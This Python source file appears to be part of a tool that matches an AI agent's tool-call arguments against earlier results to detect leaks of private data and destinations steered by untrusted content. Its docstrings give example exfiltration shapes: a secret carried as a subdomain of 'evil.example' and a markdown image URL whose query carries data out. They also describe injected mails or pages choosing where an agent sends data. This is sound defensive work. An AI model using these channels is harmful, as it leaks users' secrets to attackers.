"""Matching a call's arguments against the fingerprint index: which pieces of earlier results
each carries (:class:`~cyclops.core.matches.ArgumentMatch`), and which secrets.

Rules:

1. Every argument is looked up in each of its decoded forms (see :mod:`.unmask`).
2. A destination argument says *where* data goes; only what it carries beyond the address (a
   URL's path, query and subdomain) can be data. An argument under an opaque-id key carries
   none; nor does the part of a value that says which records a call changes (a WHERE clause).
3. Of an egress call, whole words, values and prose are matched too, not only fragments of
   distinctive tokens; and what a URL inside a payload carries is also kept apart: it reaches
   that URL's host wherever the message is written (an image a comment embeds is fetched).
4. An identifier or address the agent sent in a call's arguments before an untrusted result
   holding it came back (a pull request's number, in the pull request read with it; a domain
   in a search's ``from:``, in the mails found) was not given by that result, whether the
   argument holds it whole or as a piece of that result (see :mod:`.sentbefore`).
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable, Sequence
from dataclasses import replace

from .arguments import (
    ArgLeaf,
    cut_out,
    json_strings,
    parent_domains,
    subdomain,
    url_host,
    url_payload,
    urls_in,
)
from .canon import clean, matchable
from .credentials import CREDENTIAL_KEY, presented_credentials, presented_in
from .distinctive import identifier, identifiers, locators
from .fingerprints import FingerprintIndex
from .hits import Hit, HitKind
from .leak import outermost
from .matches import ArgumentMatch, CallShape
from .privatevalues import PrivateValues
from .rules import HighValueRule, Patterns
from .secretscan import digit_runs, high_value_pieces, high_values
from .sentbefore import SentBefore
from .types import Label
from .unmask import DEFAULT_LIMITS, SINK_LIMITS, unmask

__all__ = ["ArgumentMatcher"]

_URL_TAIL = ").,;:!?]}*_"
_CHAINED = re.compile(r"[|;&`<>\n]|\$\(")
_SSH = re.compile(r"(?:^|[\s/;&|(])(?:ssh|scp|sftp|rsync)\s")
_IDENTITY = re.compile(r"(?:^|\s)(?:-i|--identity\S*)(?:\s|\S*/)|IdentityFile", re.IGNORECASE)
"""What chains commands or redirects one's input or output: more than one simple command."""


class ArgumentMatcher:
    def __init__(self, index: FingerprintIndex, patterns: Patterns) -> None:
        self.index = index
        self.sent_before = SentBefore()
        self.private_values = PrivateValues()
        self.value_pieces: set[str] = set()
        """Runs of digits of the high values private results held, and those of their values
        that are digits only (see ``posted_values``)."""
        self._shortest_piece = 0
        self._p = patterns
        rules = patterns.provenance.high_value
        self._min_pieces = {rule.id: rule.min_piece for rule in rules if rule.min_piece}
        self._secret_hosts = {r.id: r.hosts for r in patterns.secrets if r.hosts is not None}

    def match(self, args: Sequence[ArgLeaf], shape: CallShape) -> list[ArgumentMatch]:
        """Look every argument up in the index, and find secrets.

        A destination argument says *where* data goes: only a URL's path, query and subdomain
        (``<token>.evil.example``) can carry sensitive content (a reply to the sender of a
        private mail does not leak the sender's address), and an argument under an opaque-id
        key (``threadId``) carries none. A page that named a parent domain of the host chose
        it. The whole value of a destination argument, and of any argument of a privileged
        call, is also looked up as an identifier taken from untrusted content (``#633``).
        """
        matches = []
        limits = SINK_LIMITS if shape.egress else DEFAULT_LIMITS
        for leaf in args:
            match = ArgumentMatch(leaf.path, leaf.path in shape.destinations)
            value, locator = cut_out(leaf.value, shape.located.get(leaf.path, ()))
            for n, form in enumerate(unmask(value, limits)):
                self._match_form(form, match, shape, decoded=n > 0)
            if shape.egress and not match.destination:
                match.payloads += (matchable(clean(text)) for text in json_strings(value))
            if locator:
                self._match_locator(locator, match)
            if shape.egress and not match.destination and "://" in value:
                self._match_outbound(value, match, shape)
                if match.sensitive_hits:
                    self._drop_links_followed(value, match, shape)
            if match.secrets and self._secret_hosts:
                self._drop_presented(leaf, match, shape)
            if shape.egress and match.sensitive_hits:
                self._drop_own_service(leaf, match, shape)
            if leaf.path in shape.unsteered:
                match.untrusted_hits.clear()
            if leaf.path in shape.opaque:
                if not shape.privileged and not match.destination:
                    match.untrusted_hits.clear()
                match.sensitive_hits.clear()
                match.outbound_hits.clear()
                match.payloads.clear()
            elif match.destination:
                if shape.egress and match.sensitive_hits:
                    self._drop_held_whole(leaf.value, match)
                # What the result that chose this destination says about it is the address,
                # not data (a mail that names where to post): only other results can leak here.
                steering = match.addressed_by
                match.sensitive_hits = [h for h in match.sensitive_hits if h.call not in steering]
            hosts = shape.hosts.get(leaf.path, ()) if shape.egress else ()
            if hosts and not _logs_in_with_a_key(leaf.value):
                named = {n for host in hosts for n in (host, *parent_domains(host))}
                found = self.index.exact(named, HitKind.LOCATOR)
                match.hosts_named_by.update(h.call for h in found if Label.UNTRUSTED in h.labels)
            if hosts and match.sensitive_hits:
                # Going to a host a private text names is no leak of it (a secret sent as a
                # subdomain is no host the private text names).
                match.sensitive_hits = [h for h in match.sensitive_hits if not self._at(h, hosts)]
            matches.append(match)
        return matches

    def _drop_presented(self, leaf: ArgLeaf, match: ArgumentMatch, shape: CallShape) -> None:
        """A key presented to the service it is for authenticates: no secret sent, no leak
        (see :mod:`.credentials`)."""
        hosts = {host for found in shape.hosts.values() for host in found}
        presented = presented_credentials(leaf, match.secrets, self._secret_hosts, hosts)
        if presented:
            keys = [matchable(clean(f.secret)) for f in presented]
            match.secrets = [f for f in match.secrets if f not in presented]
            match.sensitive_hits = [
                h for h in match.sensitive_hits if not any(self.index.piece(h) in k for k in keys)
            ]

    def _drop_own_service(self, leaf: ArgLeaf, match: ArgumentMatch, shape: CallShape) -> None:
        """A private file that names a service and holds its key (``ACME_URL=https://api.acme
        .example``, ``ACME_KEY=...``) is read to call that service: a call that reaches only
        hosts the file names, presenting the file's pieces as credentials (see
        :mod:`.credentials`) or as the address itself, sends nothing of it to anyone new. Not
        for a text anyone may have written (untrusted: a chat's history), nor for a piece sent
        any other way (the key in a gist's body)."""
        hosts = {host for found in shape.hosts.values() for host in found}
        if not hosts:
            return
        value = matchable(clean(leaf.value))
        origins = [link[: len(link) - len(url_payload(link))] for link, _ in urls_in(value)]
        credential = bool(CREDENTIAL_KEY.match(leaf.key))
        services = {}  # segment -> whether it is a private text that names every host
        kept, dropped = [], []
        for hit in match.sensitive_hits:
            if hit.segment not in services:
                segment = self.index.segment(hit.segment)
                services[hit.segment] = (
                    segment is not None
                    and Label.UNTRUSTED not in segment.labels
                    and all(_names_host(segment.text, host) for host in hosts)
                )
            piece = self.index.piece(hit) if services[hit.segment] else ""
            # A copy may take the credential's name along (``api_key=<key>``).
            presented = credential or presented_in(value, _SETTING.sub("", piece))
            if piece and (presented or any(piece in origin for origin in origins)):
                dropped.append(piece)
            else:
                kept.append(hit)
        match.sensitive_hits = kept
        if dropped:
            match.secrets = [f for f in match.secrets if not _inside(f.secret, dropped)]

    def _drop_held_whole(self, value: str, match: ArgumentMatch) -> None:
        """A destination a private text holds whole (a link with its password, a wiki page, an
        account paid before) is where that text points: following it sends its path and query
        back to the host that made them. No leak, and no secret sent, of that text."""
        link = matchable(clean(value)).strip()
        texts = {h.segment: self.index.segment(h.segment) for h in match.sensitive_hits}
        holders = {i for i, seg in texts.items() if seg is not None and link in seg.text}
        if holders:
            match.sensitive_hits = [h for h in match.sensitive_hits if h.segment not in holders]
            match.secrets.clear()

    def _drop_links_followed(self, value: str, match: ArgumentMatch, shape: CallShape) -> None:
        """A command that opens a link a private text holds whole
        (``psql postgres://app:<password>@db.internal/app`` with the URL of an ``.env``) follows
        it: the text's pieces inside the link, and its secrets, go to the host the text says
        they are for. Only a call with no destination argument, one simple command (no pipe,
        list or redirection), no address outside the link, every host of the call named by
        the text, and every piece of the text inside the link."""
        hosts = {host for found in shape.hosts.values() for host in found}
        if shape.destinations or not hosts:
            return
        links = [link.rstrip(_URL_TAIL) for link, _ in urls_in(value)]
        rest = value
        for link in links:
            rest = rest.replace(link, " ")
        if "@" in rest or _CHAINED.search(rest):
            return
        canonical = [matchable(clean(link)).strip() for link in links]
        for seg_id in {h.segment for h in match.sensitive_hits}:
            segment = self.index.segment(seg_id)
            if segment is None or any(host not in segment.text for host in hosts):
                continue
            held = [link for link in canonical if link and link in segment.text]
            own = [h for h in match.sensitive_hits if h.segment == seg_id]
            if held and all(any(self.index.piece(h) in link for link in held) for h in own):
                match.sensitive_hits = [h for h in match.sensitive_hits if h.segment != seg_id]
                match.secrets = [f for f in match.secrets if not _inside(f.secret, held)]

    def _at(self, hit: Hit, hosts: Collection[str]) -> bool:
        """Whether ``hit`` is a piece of one of ``hosts`` that its private text names whole."""
        piece, segment = self.index.piece(hit), self.index.segment(hit.segment)
        text = segment.text if segment is not None else ""
        return bool(piece) and any(piece in host and host in text for host in hosts)

    def _match_form(self, form: str, match: ArgumentMatch, shape: CallShape, decoded: bool) -> None:
        cleaned = clean(form)
        text = matchable(cleaned)
        # A destination takes only untrusted hits from here (its payload is matched below).
        wanted = Label.UNTRUSTED if match.destination else None
        found = list(self.index.fragments(text, wanted))
        match.untrusted_hits.extend(
            h for h in found if Label.UNTRUSTED in h.labels and self._piece_given(h)
        )
        if not match.destination:
            match.sensitive_hits.extend(self._outermost(found))
        if match.destination:
            # A URL is an address and a payload; a decoded form that is no URL came out of a
            # payload (the address is never encoded); anything else is an address.
            payload = url_payload(cleaned) if "://" in cleaned or not decoded else cleaned
            # Cut from ``cleaned``, of which the payload is a suffix (``text`` is shorter
            # wherever separators were merged).
            address = matchable(cleaned[: len(cleaned) - len(payload)])
            host = matchable(url_host(cleaned))
            hosts = locators(address) | set(parent_domains(host))
            named = list(self.index.exact(hosts, HitKind.LOCATOR))
            match.untrusted_hits.extend(named)
            match.addressed_by.update(h.call for h in named)
            if payload and shape.egress:
                self._match_sensitive(payload, match)
            carried = subdomain(host) if shape.egress else ""
            if carried:
                self._match_sensitive(carried, match)
        elif shape.egress:
            self._match_sensitive(cleaned, match, fragments=False)
        tokens = identifiers(text)
        whole = identifier(text) if match.destination or shape.privileged else None
        if whole is not None:
            tokens.add(whole)
        if shape.privileged and not match.destination and text.startswith("/"):
            # An address in an API's path (``/users/k.varga@corp.example``) names whom a
            # privileged call acts on.
            tokens.update(locators(text.replace("/", " ")))
        if match.destination and shape.steered:  # a phone number however it is written
            tokens.update(self._steering_values(cleaned))
        hits = [h for h in self.index.exact(tokens, HitKind.LOCATOR) if self._given(h)]
        match.untrusted_hits.extend(hits)
        if match.destination:
            # Identifiers in the address (a channel, a recipient) name it; in the payload (a
            # URL's query, or what was decoded out of it) they are data.
            named_ids = {v for v in tokens if v in address} if address else set()
            if shape.steered and address:
                named_ids.update(self._steering_values(address))
            if whole is not None and (not decoded or "://" in cleaned):
                named_ids.add(whole)  # the whole address, as an untrusted result wrote it
            match.addressed_by.update(h.call for h in hits if h.value in named_ids)
        if shape.scan is not None:
            match.secrets.extend(shape.scan.scan(cleaned))

    def _steering_values(self, text: str) -> list[str]:
        rules = self._p.provenance.steering_values
        return [hv.value for hv in high_values(rules, text)] if rules else []

    def _match_outbound(self, value: str, match: ArgumentMatch, shape: CallShape) -> None:
        """The sensitive hits inside the URLs a payload carries to hosts outside the allowlist
        (``![badge](https://evil.example/b.png?c=<salt>)`` in a comment); a URL a private text
        holds whole (the status page a README links to) carries none of that text, nor do
        pieces of its host that the text names."""
        allowed, home = self._p.egress.allow_hosts, shape.home_hosts
        shape = replace(shape, scan=None)  # the whole value's secrets are found already
        for link, host in urls_in(value):
            if not allowed.matches(host) and not (home is not None and home.matches(host)):
                url = link.rstrip(_URL_TAIL)  # markdown's ``(...)``, a sentence's full stop
                found = ArgumentMatch(match.path, destination=False)
                for n, form in enumerate(unmask(url, SINK_LIMITS)):
                    self._match_form(form, found, shape, decoded=n > 0)
                if found.sensitive_hits:
                    self._drop_held_whole(url, found)
                hits = found.sensitive_hits
                match.outbound_hits.extend(h for h in hits if not self._at(h, (host,)))

    def _match_locator(self, value: str, match: ArgumentMatch) -> None:
        """Which records a call changes (a WHERE clause) carries no data to anyone: only what
        untrusted content chose there is looked for."""
        text = matchable(clean(value))
        match.untrusted_hits.extend(self.index.fragments(text, Label.UNTRUSTED))
        tokens = identifiers(text)
        if (whole := identifier(text)) is not None:
            tokens.add(whole)
        match.untrusted_hits.extend(filter(self._given, self.index.exact(tokens, HitKind.LOCATOR)))

    def posted_values(self, rules: Sequence[HighValueRule], cleaned: str) -> list[str]:
        """The high values of a private text and their pieces, as the index posts them.

        The first 65,536 pieces, and values of digits only, are remembered (``value_pieces``):
        a call carries them as a run of digits of its own, a card number in halves or a code
        without the words that named it where it was sent ("Login code: 48213")."""
        found = high_values(rules, cleaned) if rules else []
        pieces = high_value_pieces(self._min_pieces, found)
        room = max(_MAX_PIECES - len(self.value_pieces), 0)
        kept = (pieces + [v.value for v in found if v.value.isdigit()])[:room]
        if kept:
            self.value_pieces.update(kept)
            shortest = min(map(len, kept))
            self._shortest_piece = min(self._shortest_piece or shortest, shortest)
        return [v.value for v in found] + pieces

    def _given(self, hit: Hit) -> bool:
        """Whether untrusted content gave the agent the identifier ``hit`` found."""
        return Label.UNTRUSTED in hit.labels and self.sent_before.given(hit.value, hit.call)

    def _piece_given(self, hit: Hit) -> bool:
        """Whether untrusted content gave the agent the piece of it that fragment ``hit``
        found: not when the piece is a token the agent sent before the result came back."""
        piece = self.index.piece(hit)
        return not piece or self.sent_before.given(piece, hit.call)

    def _match_sensitive(self, cleaned: str, match: ArgumentMatch, fragments: bool = True) -> None:
        """Sensitive pieces of ``cleaned`` (whole words and values, not only fragments)."""
        text = matchable(cleaned)
        match.payloads.append(text)
        found = self._outermost(self.index.fragments(text)) if fragments else []
        found += self.index.shingles(text)
        rules = self._p.provenance.high_value
        values = [hv.value for hv in high_values(rules, cleaned)]
        if self.value_pieces:  # a card number sent in halves, a code sent alone
            runs = digit_runs(cleaned, self._shortest_piece)
            values += [run for run in runs if run in self.value_pieces]
        values += self.private_values.found_in(cleaned)
        found += self.index.exact(values, HitKind.HIGH_VALUE)
        match.sensitive_hits.extend(h for h in found if Label.SENSITIVE in h.labels)

    def _outermost(self, fragments: Iterable[Hit]) -> list[Hit]:
        return outermost((h for h in fragments if Label.SENSITIVE in h.labels), self._family)

    def _family(self, hit: Hit) -> int:
        segment = self.index.segment(hit.segment)
        return segment.family if segment is not None else -1


_MAX_PIECES = 65_536


def _logs_in_with_a_key(command: str) -> bool:
    """Whether an ssh-family command is given a key to log in with (``ssh -i ~/.ssh/k host``):
    the key is read, never sent, so a host a page named does not make the command send it (see
    ``ArgumentMatch.hosts_named_by``)."""
    return bool(_SSH.search(command) and _IDENTITY.search(command))


def _inside(secret: str, links: Iterable[str]) -> bool:
    text = matchable(clean(secret))
    return any(text in link for link in links)


_SETTING = re.compile(r"^[\w.-]*\s?[:=]\s?")
"""A setting's name before its value (``api_key=``, ``token: ``)."""
_HOST_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789-.")


def _names_host(text: str, host: str) -> bool:
    """Whether canonical ``text`` names ``host`` whole (not inside a longer name)."""
    at = text.find(host)
    while at >= 0:
        end = at + len(host)
        before, after = text[at - 1 : at] if at else "", text[end : end + 1]
        dot_ends = after == "." and text[end + 1 : end + 2] not in _HOST_CHARS
        if before not in _HOST_CHARS and (after not in _HOST_CHARS or dot_ends):
            return True
        at = text.find(host, at + 1)
    return False
